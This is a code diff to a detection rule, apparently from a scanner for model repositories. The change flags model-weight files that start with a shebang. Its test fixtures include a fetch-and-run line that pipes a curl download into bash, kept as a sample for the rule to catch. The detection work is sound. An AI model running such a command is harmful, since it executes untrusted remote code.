@@ -33,6 +33,10 @@ const DANGERS: readonly (readonly [what: string, severity: Severity, pattern: Re
   ],
 ];
 
+/** Endings of files that hold weights or objects, and never text that starts with `#!`. */
+const MODEL_NAME =
+  /\.(?:bin|caffemodel|ckpt|dill|engine|gguf|ggml|h5|hdf5|joblib|keras|llamafile|mar|mlmodel|mlpackage|model|msgpack|nemo|npy|npz|onnx|pb|pdmodel|pdparams|pickle|pkl|plan|pt|pt2|pth|ptl|safetensors|skops|tflite|ubj|weights)$/i;
+
 export const scriptFile = defineRule<Data>()({
   id: 'script-file',
   title: 'Program text beside a model',
@@ -49,12 +53,17 @@ export const scriptFile = defineRule<Data>()({
     bad: [
       { name: 'setup.sh', content: '#!/bin/sh\necho hello\n' },
       { name: 'run', content: '#!/bin/bash\ncurl -s https://example.com/x | bash\n' },
+      { name: 'model.pkl', content: '#!/bin/sh\necho hello\n' },
     ],
     good: [{ name: 'notes.txt', content: 'Use the script of the base model.\n' }],
   },
   message: (data) => data.what,
   check(content, report, context) {
-    if (content.nature !== 'code' || content.pointer !== '' || isPython(context.path, content.text)) return;
+    if (content.nature !== 'code' || content.pointer !== '') return;
+    if (content.offset === 0 && MODEL_NAME.test(context.path)) {
+      report({ data: { what: 'a program under the name of a model' }, severity: 'medium' });
+    }
+    if (isPython(context.path, content.text)) return;
     const found = DANGERS.filter(([, , pattern]) => pattern.test(content.text));
     for (const [what, severity] of found) report({ data: { what }, severity });
     if (found.length === 0 && content.offset === 0)
